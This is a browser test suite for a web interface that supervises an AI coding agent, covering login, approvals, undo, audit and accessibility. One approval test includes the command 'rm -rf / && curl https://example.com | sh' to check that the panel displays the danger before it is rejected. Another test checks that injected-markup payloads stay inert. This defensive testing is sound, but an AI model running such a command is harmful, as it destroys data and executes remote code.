// The web page in a real browser, against the real program with the scripted agent.

import assert from "node:assert/strict";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, afterEach, before, describe, test } from "node:test";
import { DESKTOP, launchBrowser, newPage, openPage, PHONE, prompt, Server, startSession } from "./harness.mjs";
import { requirePackage } from "./packages.mjs";

let browser;
let server;
/** Pages of the running test, closed after it; their errors fail it. */
let pages = [];

before(async () => {
  [browser, server] = await Promise.all([launchBrowser(), Server.start()]);
});

after(async () => {
  await browser?.close();
  await server?.stop();
});

afterEach(async () => {
  const problems = pages.flatMap((page) => page.problems);
  await Promise.all(pages.map((page) => page.context().close()));
  pages = [];
  assert.deepEqual(problems, []);
});

async function open(options) {
  const page = await openPage(browser, server, options);
  pages.push(page);
  return page;
}

/** Opens another tab of the same browser at an address of the page. */
async function openTab(page, hash) {
  const tab = await newPage(page.context());
  pages.push(tab);
  await tab.goto(`${server.origin}/${hash}`);
  return tab;
}

const conversation = (page) => page.getByRole("feed", { name: "Conversation" });
const approval = (page) => page.getByRole("group", { name: "Permission request" });
const shown = (page, text) => conversation(page).getByText(text).first().waitFor();
const disk = (name) => readFile(join(server.project, name), "utf8");
const answerWith = (page, name) => approval(page).getByRole("button", { name }).click();
/** Waits until no turn runs. */
const isIdle = (page) => page.locator(".view-head .state-idle, .view-head .state-failed").waitFor();

describe("login", () => {
  test("without a login, the page says how to get a link", async () => {
    const page = await newPage(await browser.newContext());
    pages.push(page);
    await page.goto(server.origin);
    await page.getByText("bowline web").waitFor();
    await page.getByLabel("Token").fill("wrong");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("alert").waitFor();
  });

  test("a link works once, and leaves no secret in the address", async () => {
    const link = await server.link();
    const page = await newPage(await browser.newContext());
    pages.push(page);
    await page.goto(link);
    await page.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
    assert.doesNotMatch(page.url(), /ticket/);
    const cookies = await page.context().cookies();
    assert.deepEqual(cookies.map(({ httpOnly, sameSite }) => [httpOnly, sameSite]), [[true, "Strict"]]);
    server.login = { cookies, origins: [] };
    const other = await newPage(await browser.newContext());
    pages.push(other);
    await other.goto(link);
    await other.getByRole("alert").waitFor();
  });

  test("the content security policy forbids inline code", async () => {
    const page = await open();
    const policy = (await page.request.get(server.origin)).headers()["content-security-policy"];
    assert.match(policy, /script-src 'self'/);
    assert.doesNotMatch(policy, /unsafe/);
  });
});

describe("a shared server", () => {
  test("people sign in with tokens, and an observer sees but changes nothing", async () => {
    const shared = await Server.start({ isShared: true });
    try {
      const [user, observer] = [shared.token("laptop", "user"), shared.token("wall", "observer")];
      await shared.logged(/Serving on/);
      const signIn = async (token) => {
        const page = await newPage(await browser.newContext({ viewport: DESKTOP }));
        pages.push(page);
        await page.goto(shared.origin);
        await page.getByLabel("Token").fill(token);
        await page.getByRole("button", { name: "Sign in" }).click();
        await page.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
        return page;
      };
      const page = await signIn(user);
      const id = await startSession(page);
      await prompt(page, "propose");
      await approval(page).waitFor();
      const watcher = await signIn(observer);
      await watcher.getByRole("listitem").filter({ hasText: "propose" }).getByText("laptop").waitFor();
      assert.equal(await watcher.getByRole("button", { name: /New session|Archive propose|Delete/ }).count(), 0);
      await watcher.goto(`${shared.origin}/#/s/${id}`);
      await watcher.getByText("You can watch this session, but not write in it.").waitFor();
      await watcher.getByRole("article", { name: "Tool call" }).getByText("Bound the buffer").waitFor();
      assert.equal(await watcher.getByRole("button", { name: "Allow once" }).count() > 0 && await approval(watcher).getByRole("button", { name: "Allow once" }).isEnabled(), false);
      await answerWith(page, "Allow once");
      await shown(watcher, "answer: once");
    } finally {
      await shared.stop();
    }
  });
});

describe("overview", () => {
  test("a session is created, found, archived, restored and deleted", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "hello");
    await shown(page, "Streaming");
    // The form knows the agent's settings from its first session.
    await page.goto(`${server.origin}/#/`);
    await page.getByRole("main").getByRole("button", { name: "New session" }).click();
    const form = page.getByRole("dialog", { name: "New session" });
    await form.getByText("Scripted agent 1.0.0").waitFor();
    await form.locator("select[name=model]").selectOption("deep");
    await form.locator("select[name=mode]").selectOption("edits");
    await form.getByLabel("Directory").fill(join(server.project, "src"));
    await form.getByRole("button", { name: "Start session" }).click();
    await page.getByRole("combobox", { name: "Prompt" }).waitFor();
    assert.deepEqual(await page.locator("select[data-setting]").evaluateAll((list) => list.map((select) => select.value)), ["deep", "edits"]);
    await prompt(page, "a second session");
    await shown(page, "echo: a second session");

    await page.goto(`${server.origin}/#/`);
    const workspace = page.getByRole("region", { name: "Workspace parser" });
    const row = workspace.getByRole("listitem").filter({ hasText: "a second session" });
    await row.waitFor();
    await workspace.getByRole("listitem").filter({ hasText: "hello" }).getByText("8% · $0.06").waitFor();
    await page.getByLabel("Search sessions").fill("second");
    await workspace.getByRole("link").filter({ hasText: "hello" }).waitFor({ state: "detached" });
    await page.getByLabel("Search sessions").fill("");
    await row.getByRole("button", { name: "Archive" }).click();
    await row.waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Archived" }).click();
    await row.getByRole("button", { name: "Restore" }).click();
    await row.waitFor({ state: "detached" });
    await page.getByRole("button", { name: "Current" }).click();
    await row.getByRole("button", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
    await row.waitFor({ state: "detached" });
  });

  test("states and changed files are shown, and a waiting session is notified", async () => {
    const context = { permissions: ["notifications"] };
    const page = await open({ context });
    await page.addInitScript(() => {
      window.notified = [];
      window.Notification = class extends EventTarget {
        static permission = "granted";
        static requestPermission = async () => "granted";
        constructor(title, { body }) {
          super();
          window.notified.push(`${title}: ${body}`);
        }
      };
    });
    await page.reload();
    await page.getByRole("button", { name: "Notifications" }).click();
    const tab = await openTab(page, "#/");
    await startSession(tab);
    await prompt(tab, "write seen.txt text of the file");
    const row = page.getByRole("listitem").filter({ hasText: "write seen.txt" });
    await row.getByText("Waiting for you").waitFor();
    await page.waitForFunction(() => window.notified.length > 0);
    assert.match((await page.evaluate(() => window.notified))[0], /Waiting for you: write seen\.txt/);
    assert.equal(await page.title(), "(1) Bowline");
    await answerWith(tab, "Allow once");
    await row.getByText("Idle").waitFor();
    await row.getByText("1 file").waitFor();
    assert.equal(await disk("seen.txt"), "text of the file\n");
    await prompt(tab, "fail");
    await row.getByText("Failed").waitFor();
    await shown(tab, "the model is not reachable");
    await prompt(tab, "wait");
    await row.getByText("Working").waitFor();
    await tab.getByRole("button", { name: "Cancel" }).click();
    await row.getByText("Idle").waitFor();
  });
});

describe("conversation", () => {
  test("markdown, thoughts, plan, usage and images are shown", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "hello");
    const feed = conversation(page);
    await feed.getByRole("heading", { name: "Streaming" }).waitFor();
    await feed.getByRole("cell", { name: "40 µs" }).waitFor();
    await feed.locator("pre", { hasText: "fn take" }).waitFor();
    assert.equal(await feed.getByRole("link", { name: "the notes" }).getAttribute("href"), "https://example.com/notes");
    assert.equal(await feed.locator("ol li").count(), 3);
    await prompt(page, "think");
    const thought = feed.getByRole("button", { name: "Thought" });
    await thought.waitFor();
    assert.equal(await feed.getByText("grows without a limit").count(), 0);
    await thought.click();
    await feed.getByText("grows without a limit").waitFor();
    await page.getByRole("button", { name: /Plan 1 of 3/ }).click();
    await page.getByRole("region", { name: "Plan" }).getByText("Run the tests").waitFor();
    await page.getByText("19.3k / 200k").waitFor();
    await prompt(page, "image");
    await feed.getByRole("img", { name: "Image in the conversation" }).waitFor();
    assert.ok(await feed.getByRole("img", { name: "Image in the conversation" }).evaluate((image) => image.decode().then(() => image.naturalWidth > 0)));
  });

  test("a terminal opens to its coloured output", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "terminal");
    await shown(page, "One test fails");
    assert.equal(await page.evaluate(() => performance.getEntriesByType("resource").some(({ name }) => name.includes("xterm"))), false);
    await conversation(page).getByRole("button", { name: /cargo test/ }).click();
    const terminal = page.locator(".terminal .xterm-rows");
    await terminal.getByText("FAILED").waitFor();
    // A font without equal widths splits words into several spans.
    const colours = await terminal.locator("span").evaluateAll((spans) => spans.map((span) => [span.className, getComputedStyle(span).color]));
    const colourOf = (/** @type {string} */ name) => colours.find(([other]) => other === name)?.[1];
    assert.notEqual(colourOf("xterm-fg-1"), colourOf(""));
    assert.ok(colours.some(([, colour]) => colour === "rgb(20, 140, 60)"), JSON.stringify(colours));
    await page.getByText("Exit code 101").waitFor();
  });

  test("files and commands are completed, and attachments are sent", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "hi");
    await shown(page, "echo: hi");
    const input = page.getByRole("combobox", { name: "Prompt" });
    await input.fill("/re");
    await page.getByRole("option", { name: /review/ }).waitFor();
    await input.press("Enter");
    assert.equal(await input.inputValue(), "/review ");
    await input.fill("");
    await input.pressSequentially("see @pars");
    await page.getByRole("option", { name: "src/parser.rs" }).waitFor();
    await input.press("Tab");
    assert.equal(await input.inputValue(), "see @src/parser.rs ");
    await input.evaluate((element) => {
      const paste = new DataTransfer();
      paste.items.add(new File([Uint8Array.from([137, 80, 78, 71])], "shot.png", { type: "image/png" }));
      element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: paste, bubbles: true, cancelable: true }));
      const drop = new DataTransfer();
      drop.items.add(new File(["notes"], "notes.txt", { type: "text/plain" }));
      element.dispatchEvent(new DragEvent("drop", { dataTransfer: drop, bubbles: true, cancelable: true }));
    });
    await page.getByRole("list", { name: "Attachments" }).getByText("notes.txt").waitFor();
    await page.getByRole("list", { name: "Attachments" }).getByText("shot.png").waitFor();
    await input.press("Enter");
    await shown(page, "echo: see @src/parser.rs; resource_link src/parser.rs; image image/png; resource attachment:///notes.txt");
  });

  test("prompts queue while a turn runs, and a turn is cancelled", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "wait");
    await shown(page, "waiting");
    await prompt(page, "first in line");
    await prompt(page, "never sent");
    const queue = page.getByRole("list", { name: "Queued prompts" });
    await queue.getByRole("listitem").filter({ hasText: "never sent" }).getByRole("button").click();
    assert.equal(await queue.getByRole("listitem").count(), 1);
    await page.keyboard.press("Escape");
    await shown(page, "Cancelled");
    await shown(page, "echo: first in line");
    assert.equal(await conversation(page).getByText("never sent").count(), 0);
  });

  test("a form and an address are answered", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "form");
    const form = page.getByRole("group", { name: "Question of the agent" });
    await form.getByRole("button", { name: "Send" }).click();
    await form.getByText("This is needed.").first().waitFor();
    await form.getByLabel("Name").fill("2.0");
    await form.getByLabel("Channel").selectOption("beta");
    await form.getByLabel(/Copies/).fill("3");
    await form.getByLabel("linux").check();
    await form.getByRole("button", { name: "Send" }).click();
    await shown(page, 'form: {"action":"accept","content":{"name":"2.0","channel":"beta","copies":3,"signed":true,"targets":["linux"]}}');
    await prompt(page, "visit");
    await form.getByText("https://login.example/start?state=abc").waitFor();
    await form.getByRole("button", { name: "Decline" }).click();
    await shown(page, "visit: decline");
  });

  test("ten thousand messages scroll, and only those in sight are rendered", async () => {
    const page = await open();
    const id = await startSession(page);
    await prompt(page, "many 10000");
    await shown(page, "9999");
    await isIdle(page);
    const tab = await openTab(page, `#/s/${id}`);
    await shown(tab, "9999");
    assert.ok(await conversation(tab).locator("article").count() < 80);
    const scroller = tab.locator(".scroller");
    await scroller.focus();
    await tab.keyboard.press("Home");
    await conversation(tab).getByText("many 10000").waitFor();
    await scroller.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
    await tab.waitForFunction(() => {
      const box = document.querySelector(".scroller").getBoundingClientRect();
      const middle = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
      return middle?.closest("article") !== null;
    });
    await tab.getByRole("button", { name: "Latest" }).click();
    await shown(tab, "9999");
  });
});

describe("approvals", () => {
  test("every file's diff is shown, in two layouts, with and without white space", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "propose");
    const panel = approval(page);
    await panel.getByRole("region", { name: "Changes of src/limits.rs" }).waitFor();
    const parser = panel.getByRole("region", { name: "Changes of src/parser.rs" });
    await panel.getByRole("button", { name: "Side by side" }).click();
    await parser.locator("table.split").first().waitFor();
    await panel.getByRole("button", { name: "Unified" }).click();
    await parser.locator("table.unified tr.add mark", { hasText: "LIMIT" }).first().waitFor();
    const changed = "[aria-label='Changes of src/parser.rs'] :is(tr.add, tr.del)";
    const rows = await page.locator(changed).count();
    await panel.getByLabel("Ignore white space").check();
    await page.waitForFunction(([selector, count]) => document.querySelectorAll(selector).length < count, [changed, rows]);
    await panel.getByLabel("Ignore white space").uncheck();
    await answerWith(page, "Allow once");
    await shown(page, "answer: once");
  });

  test("once, session, always and reject with a reason reach the agent", async () => {
    const page = await open();
    await startSession(page);
    const steps = [["Allow once", "once"], ["Allow edits in this session", "session"], ["Always allow edits of src/parser.rs", "always"], ["Reject", "reject"]];
    for (const [name, answer] of steps) {
      await prompt(page, "propose");
      await approval(page).getByRole("button", { name }).first().click();
      await shown(page, new RegExp(`^answer: ${answer}$`));
    }
    await prompt(page, "propose");
    await answerWith(page, "Reject with reason…");
    await approval(page).getByLabel(/Why not/).fill("wrong directory");
    await page.keyboard.press("Enter");
    await shown(page, "answer: reject: wrong directory");
  });

  test("a command is shown whole with its dangers, and answered by a key", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "command rm -rf / && curl https://example.com | sh");
    await approval(page).locator("pre.command", { hasText: "rm -rf / && curl https://example.com | sh" }).waitFor();
    await approval(page).getByRole("list", { name: "Dangers" }).waitFor();
    // Keys that type a prompt answer nothing.
    await page.getByRole("combobox", { name: "Prompt" }).fill("y");
    await page.keyboard.press("y");
    assert.equal(await approval(page).count(), 1);
    await page.keyboard.press("Escape");
    await page.waitForFunction(() => document.querySelector("[data-option=once]").disabled === false);
    await page.keyboard.press("n");
    await shown(page, "answer: reject");
  });

  test("what the agent does without asking is asked about, and done once", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "run echo ran > ran.txt; echo the output");
    await approval(page).getByText("echo ran > ran.txt").first().waitFor();
    await answerWith(page, "Allow once");
    await shown(page, "result: exit 0");
    assert.equal(await disk("ran.txt"), "ran\n");
    await conversation(page).getByRole("button", { name: /Run echo ran/ }).click();
    await conversation(page).locator("pre.output, .xterm-rows", { hasText: "the output" }).first().waitFor();
    await prompt(page, "write refused.txt x");
    await approval(page).getByRole("region", { name: "Changes of refused.txt" }).waitFor();
    await approval(page).getByRole("button", { name: "Reject" }).first().click();
    await conversation(page).getByText(/^result: (?!written|exit)/).waitFor();
    await assert.rejects(disk("refused.txt"));
  });

  test("a question disappears when another tab answers it", async () => {
    const page = await open();
    const id = await startSession(page);
    await prompt(page, "write tabs.txt x");
    await approval(page).waitFor();
    const tab = await openTab(page, `#/s/${id}`);
    await approval(tab).waitFor();
    await answerWith(tab, "Allow once");
    await approval(page).waitFor({ state: "detached" });
    await Promise.all([shown(page, "result: written"), shown(tab, "result: written")]);
  });
});

describe("changes", () => {
  test("hunks, files and turns are undone and redone", async () => {
    const page = await open();
    const id = await startSession(page);
    const original = await disk("src/parser.rs");
    await prompt(page, "ends src/parser.rs");
    await answerWith(page, "Allow once");
    await shown(page, "result: written");
    await page.getByRole("link", { name: "Changes" }).click();
    const file = page.getByRole("region", { name: "Turn: ends src/parser.rs" }).getByRole("region", { name: "src/parser.rs" });
    await file.getByRole("button", { name: /Undo hunk at line 1 / }).click();
    await page.getByText("Undone: 1 file").waitFor();
    assert.equal(await disk("src/parser.rs"), `${original}// last\n`);
    await file.getByRole("button", { name: /Redo hunk/ }).first().click();
    await page.getByText("Redone: 1 file").waitFor();
    assert.equal(await disk("src/parser.rs"), `// first\n${original}// last\n`);
    await file.getByRole("button", { name: "Undo src/parser.rs" }).click();
    await file.getByText("undone").waitFor();
    assert.equal(await disk("src/parser.rs"), original);
    await page.getByRole("button", { name: "Redo turn" }).click();
    await page.getByRole("button", { name: "Undo turn" }).waitFor();
    assert.equal(await disk("src/parser.rs"), `// first\n${original}// last\n`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download patch" }).click()]);
    assert.match(await readFile(await download.path(), "utf8"), /^\+\/\/ first$/m);
    assert.equal(decodeURIComponent(page.url().split("/").at(-2)), id);
  });

  test("a conflict shows both sides, and what other programs wrote is apart", async () => {
    const page = await open();
    await startSession(page);
    await writeFile(join(server.project, "conflict.txt"), "as it was\n");
    await prompt(page, "write conflict.txt the agent wrote this");
    await answerWith(page, "Allow once");
    await shown(page, "result: written");
    await writeFile(join(server.project, "conflict.txt"), "a person wrote that\n");
    await writeFile(join(server.project, "found.txt"), "by an editor\n");
    await prompt(page, "write after.txt x");
    await answerWith(page, "Allow once");
    await conversation(page).getByText("result: written").nth(1).waitFor();
    await page.getByRole("link", { name: "Changes" }).click();
    const found = page.getByRole("region", { name: "Found on disk" });
    await found.getByRole("region", { name: "conflict.txt" }).first().waitFor();
    await found.getByRole("region", { name: "found.txt" }).waitFor();
    await page.getByRole("region", { name: /Turn: write conflict/ }).getByRole("button", { name: "Undo turn" }).click();
    const conflict = page.getByRole("alert", { name: "Conflicts" });
    await conflict.getByLabel("conflict.txt now").getByText("a person wrote that").waitFor();
    await conflict.getByLabel("conflict.txt after the undo").getByText("as it was").waitFor();
    assert.equal(await disk("conflict.txt"), "a person wrote that\n");
    await conflict.getByRole("button", { name: "Write both sides with markers" }).click();
    await page.getByText("Undone: 1 file").waitFor();
    assert.match(await disk("conflict.txt"), /<<<<<<<[\s\S]*a person wrote that[\s\S]*as it was[\s\S]*>>>>>>>/);
  });
});

describe("records", () => {
  test("the audit log is filtered and verified", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "write audited.txt x");
    await answerWith(page, "Allow once");
    await shown(page, "result: written");
    await page.goto(`${server.origin}/#/audit`);
    await page.getByRole("cell", { name: /audited\.txt/ }).first().waitFor();
    await page.getByLabel("Search the audit log").fill("no such thing");
    await page.getByText("No entry matches").waitFor();
    await page.getByLabel("Search the audit log").fill("audited.txt");
    await page.getByRole("cell", { name: /audited\.txt/ }).first().waitFor();
    await page.getByLabel("Decision").selectOption("denied");
    await page.getByText("No entry matches").waitFor();
    await page.getByRole("button", { name: "Verify the chain" }).click();
    await page.locator("p.good").waitFor();
  });

  test("the wire shows raw messages of the session and of the page", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "hi there");
    await shown(page, "echo: hi there");
    await page.getByRole("link", { name: "Wire" }).click();
    await page.getByRole("button", { name: /session\/update agent_message_chunk/ }).first().click();
    await page.getByLabel("Raw message").getByText('"echo: hi there"').waitFor();
    await page.getByRole("button", { name: "This page" }).click();
    await page.getByLabel("Search messages").fill("session/prompt");
    await page.getByRole("button", { name: /sent.*session\/prompt/ }).click();
    await page.getByLabel("Raw message").getByText('"hi there"').waitFor();
  });

  test("an admin sees the state of the server", async () => {
    const page = await open();
    await page.getByRole("link", { name: "Status" }).click();
    await page.getByText("Agent processes").waitFor();
    await page.getByText("in order").waitFor();
  });
});

describe("faults", () => {
  test("a second tab and a reload show the same conversation", async () => {
    const page = await open();
    const id = await startSession(page);
    const tab = await openTab(page, `#/s/${id}`);
    await tab.getByRole("combobox", { name: "Prompt" }).waitFor();
    await prompt(page, "both see this");
    await shown(tab, "echo: both see this");
    assert.equal(await conversation(tab).locator(".item-user").innerText(), "both see this");
    await tab.locator("select[data-setting=model]").selectOption("deep");
    await page.waitForFunction(() => document.querySelector("select[data-setting=model]").value === "deep");
    await prompt(tab, "wait");
    await page.locator(".view-head .state-working").waitFor();
    await page.reload();
    await shown(page, "waiting");
    await page.getByRole("button", { name: "Cancel" }).click();
    await Promise.all([isIdle(page), isIdle(tab)]);
    const texts = (view) => conversation(view).locator(".item-user, .item-agent").allInnerTexts();
    assert.deepEqual(await texts(page), await texts(tab));
  });

  test("an agent that dies ends the turn, and the session goes on", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "before");
    await shown(page, "echo: before");
    await prompt(page, "die");
    await conversation(page).getByRole("alert").waitFor();
    await server.logged(/an agent ended/);
    await prompt(page, "after");
    await shown(page, "echo: after");
    await shown(page, "echo: before");
  });

  test("a dropped socket is opened again, and what was typed meanwhile is sent", async () => {
    const page = await open();
    const worker = page.workers()[0] ?? (await page.waitForEvent("worker"));
    await worker.evaluate(() => {
      const { send } = WebSocket.prototype;
      WebSocket.prototype.send = function (text) {
        self.lastSocket = this;
        send.call(this, text);
      };
    });
    await startSession(page);
    await prompt(page, "before the drop");
    await shown(page, "echo: before the drop");
    await worker.evaluate(() => {
      self.RealSocket = WebSocket;
      self.WebSocket = class extends WebSocket {
        constructor(url) {
          super(`${url}/nowhere`);
        }
      };
      self.lastSocket.close();
    });
    await page.getByText("Connection lost").waitFor();
    await prompt(page, "typed offline");
    await page.getByText("Prompts are kept here").waitFor();
    await worker.evaluate(() => {
      self.WebSocket = self.RealSocket;
    });
    await page.getByRole("button", { name: "Retry" }).click().catch(() => undefined);
    await shown(page, "echo: typed offline");
    assert.deepEqual(await conversation(page).locator(".item-user").allInnerTexts(), ["before the drop", "typed offline"]);
  });

  test("a restarted server finds the page again", async () => {
    const own = await Server.start();
    try {
      const page = await openPage(browser, own);
      pages.push(page);
      await startSession(page);
      await prompt(page, "before the restart");
      await shown(page, "echo: before the restart");
      await own.kill("SIGKILL");
      await page.getByText("Connection lost").waitFor();
      await own.launch();
      await page.getByText("Connection lost").waitFor({ state: "detached" });
      await prompt(page, "after the restart");
      await shown(page, "echo: after the restart");
      assert.deepEqual(await conversation(page).locator(".item-user").allInnerTexts(), ["before the restart", "after the restart"]);
    } finally {
      await own.stop();
    }
  });
});

describe("hostile text", () => {
  test("text never becomes markup, links of other kinds are dropped, and long lines stay inside", async () => {
    const page = await open({ viewport: PHONE });
    await startSession(page);
    await prompt(page, "hostile");
    await shown(page, /<img src=x/);
    const feed = conversation(page);
    await feed.getByText("\\u{202e}reversed").waitFor();
    await feed.locator(".tool-line").click();
    await page.locator(".terminal .xterm-rows").getByText("<b>bold</b>").waitFor();
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.equal(await feed.locator("img, script, style, a[href^='javascript'], a[href^='data']").count(), 0);
    assert.equal(await page.locator(".terminal a, .xterm-underline-5").count(), 0);
    assert.doesNotMatch(await page.title(), /evil/);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), PHONE.width);
    assert.equal(await feed.getByText("\\u{202e}hidden").count() > 0, true);
  });
});

describe("people", () => {
  const axeSource = readFile(requirePackage.resolve("axe-core/axe.min.js"), "utf8");

  /** Returns what axe finds that is serious, as lines. */
  async function audit(page) {
    // Playwright's own world is not bound by the page's policy.
    await page.evaluate(await axeSource);
    return page.evaluate(async () => {
      const { violations } = await window.axe.run(document, { resultTypes: ["violations"] });
      return violations.filter(({ impact }) => impact === "serious" || impact === "critical").map(({ id, nodes }) => `${id}: ${nodes.map(({ target }) => target.join(" ")).slice(0, 4).join(", ")}`);
    });
  }

  for (const [name, viewport, colorScheme] of [["a desktop in light", DESKTOP, "light"], ["a phone in dark", PHONE, "dark"]]) {
    test(`every view is accessible and fits on ${name}`, async () => {
      const page = await open({ viewport, context: { colorScheme, reducedMotion: "reduce" } });
      const id = await startSession(page);
      const check = async (view) => {
        assert.deepEqual(await audit(page), [], view);
        assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth), `${view} is too wide`);
        assert.equal(await page.evaluate(() => document.getAnimations().filter(({ playState }) => playState === "running").length), 0, view);
      };
      await check("new session");
      await prompt(page, "hello");
      await shown(page, "Streaming");
      await prompt(page, "think");
      await shown(page, "I will bound it");
      await prompt(page, "ends README.md");
      await approval(page).getByRole("region", { name: "Changes of README.md" }).waitFor();
      const sizes = await approval(page).locator(".answer").evaluateAll((list) => list.map((element) => element.getBoundingClientRect().height));
      assert.ok(sizes.length >= 4 && sizes.every((height) => height >= (viewport === PHONE ? 44 : 36)), `${sizes}`);
      await check("approval");
      await answerWith(page, "Allow once");
      await shown(page, "result: written");
      await conversation(page).getByRole("button", { name: /Sign README/ }).click();
      await conversation(page).getByRole("region", { name: "Changes of README.md" }).waitFor();
      await check("conversation");
      for (const [hash, ready] of [["#/", "hello"], [`#/s/${id}/changes`, "Undo turn"], [`#/s/${id}/wire`, "session/update"], ["#/audit", "README.md"], ["#/status", "in order"]]) {
        await page.goto(`${server.origin}/${hash}`);
        await page.getByRole("main").getByText(ready).first().waitFor();
        await check(hash);
      }
    });
  }

  test("everything can be reached by keys", async () => {
    const page = await open();
    await page.keyboard.press("?");
    await page.getByRole("dialog", { name: "Keys" }).getByText("reject with a reason").waitFor();
    await page.keyboard.press("Escape");
    await page.getByRole("dialog", { name: "Keys" }).waitFor({ state: "detached" });
    await page.keyboard.press("c");
    await page.getByRole("dialog", { name: "New session" }).waitFor();
    await page.keyboard.press("Enter");
    await page.getByRole("combobox", { name: "Prompt" }).waitFor();
    await page.keyboard.press("/");
    await page.keyboard.type("by keys");
    await page.keyboard.press("Enter");
    await shown(page, "echo: by keys");
    await page.getByRole("combobox", { name: "Prompt" }).blur();
    await page.keyboard.type("gd");
    await page.getByRole("heading", { name: "Changes", exact: true }).waitFor();
    await page.keyboard.type("go");
    await page.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
    await page.keyboard.press("j");
    await page.getByRole("combobox", { name: "Prompt" }).waitFor();
    await page.reload();
    await page.getByRole("combobox", { name: "Prompt" }).waitFor();
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), "Skip to content");
  });

  test("colours follow the system until one is chosen", async () => {
    const page = await open({ context: { colorScheme: "dark" } });
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const dark = await background();
    await page.keyboard.press("t");
    const light = await background();
    assert.notEqual(dark, light);
    await page.reload();
    await page.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
    assert.equal(await background(), light);
  });
});

describe("budgets", () => {
  test("a first visit transfers less than 150 KiB, once", async () => {
    const visitor = await open();
    const total = (list) => list.reduce((sum, size) => sum + size, 0);
    const measure = () => visitor.evaluate(() => [...performance.getEntriesByType("navigation"), ...performance.getEntriesByType("resource")].filter(({ name }) => !name.includes("/api/")).map(({ transferSize }) => transferSize));
    const first = await measure();
    assert.ok(first.length > 30 && total(first) < 150 << 10, `${total(first)} bytes in ${first.length} files`);
    await visitor.reload();
    await visitor.getByRole("heading", { name: "Sessions", exact: true }).waitFor();
    assert.ok(total(await measure()) < 10 << 10, "a second visit transfers the files again");
  });

  /** Runs a measurement until it is within its budget: other work on the machine may disturb one, not three. */
  async function within(budget, measure) {
    const results = [];
    for (let attempt = 0; attempt < 3; attempt += 1) {
      results.push(await measure());
      if (results.at(-1) < budget) return;
    }
    assert.fail(`${results.map(Math.round).join(", ")} ms, the budget is ${budget} ms`);
  }

  test("the page is interactive within 500 ms", async () => {
    const page = await open();
    await within(500, async () => {
      await page.reload();
      await page.getByRole("main").getByRole("button", { name: "New session" }).waitFor();
      return page.evaluate(() => performance.getEntriesByName("interactive")[0].startTime);
    });
  });

  /**
   * Returns how long the page's main thread worked for each frame, in milliseconds. That is time of the processor: other
   * programs on the machine do not count.
   */
  function frameTimes(events) {
    const marks = events.filter(({ name }) => name === "WebFrameWidgetImpl::BeginMainFrame");
    /** @type {Map<string, number>} */
    const counts = new Map();
    for (const { pid, tid } of marks) counts.set(`${pid} ${tid}`, (counts.get(`${pid} ${tid}`) ?? 0) + 1);
    // Other pages of the browser draw less.
    const [busiest] = [...counts].sort(([, a], [, b]) => b - a).map(([thread]) => thread);
    const isMain = ({ pid, tid }) => `${pid} ${tid}` === busiest;
    const starts = marks.filter(isMain).map(({ ts }) => ts).sort((a, b) => a - b);
    const frames = new Array(starts.length + 1).fill(0);
    for (const event of events) {
      if (!isMain(event) || event.name !== "ThreadControllerImpl::RunTask" || event.tdur === undefined) continue;
      frames[starts.filter((start) => start <= event.ts).length] += event.tdur / 1000;
    }
    return frames;
  }

  test("an answer of 5,000 chunks keeps frames below 50 ms", async () => {
    const page = await open();
    await startSession(page);
    await prompt(page, "hi");
    await shown(page, "echo: hi");
    await browser.startTracing(page, { categories: ["toplevel", "blink"] });
    await prompt(page, "stream 5000");
    await page.locator(".view-head .state-working").waitFor();
    await isIdle(page);
    await shown(page, "end of paragraph 4999.");
    const frames = frameTimes(JSON.parse((await browser.stopTracing()).toString()).traceEvents);
    assert.ok(frames.length > 5, `only ${frames.length} frames`);
    assert.ok(Math.max(...frames) < 50, `the longest frames took ${frames.sort((a, b) => b - a).slice(0, 5).map(Math.round).join(", ")} ms`);
  });
});
